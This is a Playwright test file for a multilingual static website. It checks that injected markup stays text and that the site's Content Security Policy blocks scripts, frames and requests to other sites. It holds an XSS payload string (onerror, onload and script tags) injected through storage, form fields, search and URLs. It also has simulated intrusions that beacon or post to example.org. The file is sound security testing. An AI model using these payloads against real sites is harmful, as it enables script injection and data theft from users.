import type { Page } from '@playwright/test';
import { startCaddy } from '../support/caddy.ts';
import { dist } from '../support/dist.ts';
import { answerLink, expect, locales, openReady, stepPath, test, texts } from './site.ts';

/** Text that would run as soon as anything took it for HTML, and leave an element behind even where it could not run. */
const attack = `"'><img src=x data-injected onerror=ran()><svg onload=ran()></svg><script data-injected>ran()</script>`;
const inAddress = encodeURIComponent(attack);

/** Everything that is remembered on a device, in its right shape and with an attack in every text. */
const remembered: Record<string, unknown> = {
  language: attack,
  'last-step': { locale: 'hy', trail: ['silent', attack], heading: attack },
  letter: { currency: 'AMD', values: { name: attack, project: attack, me: attack, mistake: attack } },
  seen: [attack],
  ticks: { [attack]: [0] },
};

/** Watches for code that runs though it should not, and for what the policy had to stop. */
const watch = async (page: Page) => {
  const seen = { ran: 0, stopped: [] as string[] };
  await page.exposeFunction('ran', () => void seen.ran++);
  await page.exposeFunction('stopped', (what: string) => void seen.stopped.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const report = (globalThis as unknown as { stopped: (what: string) => void }).stopped;
      report(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return seen;
};

/** Nothing ran, and not thanks to the policy alone: no text of an attack became an element. */
const expectHarmless = async (page: Page, seen: Awaited<ReturnType<typeof watch>>) => {
  await expect(page.locator('[data-injected]')).toHaveCount(0);
  expect(seen).toEqual({ ran: 0, stopped: [] });
};

for (const locale of locales) {
  const { letters, home } = texts[locale];

  test.describe(`an attack in ${locale}`, () => {
    test('by storage stays text', async ({ page }) => {
      const seen = await watch(page);
      await page.addInitScript((values) => {
        for (const storage of [localStorage, sessionStorage]) {
          for (const [key, value] of Object.entries(values))
            storage.setItem(`client:${key}`, JSON.stringify(value));
        }
      }, remembered);
      await page.goto('/');
      await expectHarmless(page, seen);
      await page.goto(`/${locale}/`);
      await expect(page.getByRole('link', { name: home.continue })).toBeVisible();
      await expectHarmless(page, seen);
      await openReady(page, stepPath(locale));
      await expectHarmless(page, seen);
      await page.goto(`/${locale}/letters/apology/`);
      await expect(page.locator('[data-letter-text]')).toContainText(attack);
      await expectHarmless(page, seen);
    });

    test('by a field of a letter stays text', async ({ page }) => {
      const seen = await watch(page);
      await page.goto(`/${locale}/letters/apology/`);
      await page.locator('textarea[name=mistake]').fill(attack);
      await page.getByLabel(letters.keep).check();
      await page.reload();
      await expect(page.locator('[data-letter-text]')).toContainText(attack);
      const mail = await page.locator('a[href^="mailto:"]').getAttribute('href');
      expect(decodeURIComponent(mail ?? '')).toContain(attack);
      await expectHarmless(page, seen);
    });

    test('by what is searched for stays text', async ({ page }) => {
      const seen = await watch(page);
      await page.goto(`/${locale}/search/?q=${inAddress}`);
      const results = page.locator('#search-results[aria-busy=false]');
      await expect(results).toBeAttached();
      await expect(page.locator('#search').getByRole('searchbox')).toHaveValue(attack);
      await page.goto(`/${locale}/`);
      await page.getByRole('searchbox').fill(attack);
      await expect(page.locator('dialog #search-results[aria-busy=false]')).toBeAttached();
      await expectHarmless(page, seen);
    });

    test.describe('by address', () => {
      test.use({ expectedErrors: [/404 \(Not Found\)/] });

      test('stays text', async ({ page }) => {
        const seen = await watch(page);
        for (const address of [
          stepPath(locale, 'silent', inAddress.replaceAll('%2F', '')), // the test server cannot read such a slash
          `${stepPath(locale, 'silent')}?q=${inAddress}&base=${inAddress}`,
          `${stepPath(locale, 'silent')}#${attack}`,
          `/${locale}/decide/map/#silent/${inAddress}`,
          `/${locale}/guide/late-payer/#${attack}`,
        ]) {
          await page.goto(address, { waitUntil: 'networkidle' });
          await expect(page.locator('h1')).toHaveCount(1);
          await expectHarmless(page, seen);
        }
      });
    });
  });
}

/** Ways in which injected code tries to run or to speak to the outside, each with the directive that must stop it. */
const intrusions: Record<string, [directive: string, intrude: () => unknown]> = {
  'script within the page': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'ran()';
      document.body.append(script);
    },
  ],
  'a handler in an attribute': [
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<b onclick="ran()">x</b>');
      document.body.querySelector<HTMLElement>('b:last-of-type')?.click();
    },
  ],
  'an address that is code': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:ran()';
      document.body.append(link);
      link.click();
    },
  ],
  'text made into code': ['script-src', () => setTimeout('ran()', 0)],
  'a script of another site': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://example.org/x.js';
      document.body.append(script);
    },
  ],
  'a picture that reports to another site': [
    'img-src',
    () => {
      new Image().src = 'https://example.org/?secret';
    },
  ],
  'a request to another site': ['connect-src', () => fetch('https://example.org/').catch(() => undefined)],
  'a form to another site': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://example.org/';
      document.body.append(form);
      form.submit();
    },
  ],
  'a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.org/';
      document.body.append(frame);
    },
  ],
  'a style within the page': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.body.append(style);
    },
  ],
};

test.describe('code that got in all the same', () => {
  test.use({ expectedErrors: [/Content Security Policy/] });

  // The test server sets no headers: here the page itself must hold.
  test('is stopped by the policy in the page', async ({ page }) => {
    const seen = await watch(page);
    const outside: string[] = [];
    await page.route(/example\.org/, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    await page.goto(stepPath('hy', 'rude', 'threatened'));
    for (const [name, [directive, intrude]] of Object.entries(intrusions)) {
      seen.stopped.length = 0;
      await page.evaluate(intrude);
      await expect
        .poll(() => seen.stopped.map((what) => what.split(' ')[0]), { message: name })
        .toContain(directive);
    }
    expect(seen.ran).toBe(0);
    expect(outside).toEqual([]);
  });
});

test.describe('behind a web server with its headers', () => {
  test.use({
    // oxlint-disable-next-line no-empty-pattern -- Playwright asks for a pattern
    baseURL: async ({}, use) => {
      const server = await startCaddy(dist);
      await use(server.origin);
      await server.stop();
    },
  });

  for (const locale of locales) {
    test(`a whole visit in ${locale} asks nothing of any other site`, async ({ page, context, baseURL }) => {
      const { search, letters, walk } = texts[locale];
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      const seen = await watch(page);
      const requests: string[] = [];
      context.on('request', (request) => requests.push(request.url()));

      await page.goto('/');
      await page.locator(`a[hreflang=${locale}]`).click();
      await page.locator('.answers a').nth(1).click();
      await expect(page.locator('.walk[data-ready]')).toBeAttached();
      await answerLink(page, 'silent-unknown').click();
      await answerLink(page, 'no-reply-time').click();
      await page.getByRole('checkbox').first().check();
      await expect(page.getByRole('heading', { name: walk.steps, exact: true })).toBeVisible();

      await page.goto(`/${locale}/letters/payment-reminder/`);
      await page.locator('input[name=name]').fill('Secret');
      await page.getByLabel(letters.keep).check();
      await page.getByRole('button', { name: letters.copy }).click();
      await expect(page.getByText(letters.copied)).toBeVisible();

      await page.goto(`/${locale}/guide/late-payer/`);
      await page.getByRole('checkbox').first().check();
      await page.goto(`/${locale}/decide/map/`);
      await expect(page.locator('.map-view > svg')).toBeAttached();

      await page.goto(`/${locale}/search/`);
      const word = page.locator('main h1');
      await page.getByLabel(search.label).fill(((await word.textContent()) ?? '').slice(0, 4));
      await expect(page.locator('#search-results[aria-busy=false]')).toBeAttached();

      expect(requests.length).toBeGreaterThan(30);
      expect(requests.filter((url) => !url.startsWith(`${baseURL}/`))).toEqual([]);
      expect(requests.filter((url) => url.includes('Secret'))).toEqual([]);
      expect(await context.cookies()).toEqual([]);
      expect(seen).toEqual({ ran: 0, stopped: [] });

      // Whatever is remembered must be among what the attack by storage tries.
      const keys = await page.evaluate(() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]);
      expect(keys.filter((key) => !(key.replace(/^client:/, '') in remembered))).toEqual([]);
      expect(keys.length).toBeGreaterThan(3);
    });
  }

  test('no other site can frame a page', async ({ page, baseURL }) => {
    await page.route('https://example.org/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/hy/"></iframe>` }),
    );
    const refused = page.waitForEvent('requestfailed');
    await page.goto('https://example.org/');
    expect((await refused).url()).toBe(`${baseURL}/hy/`);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});
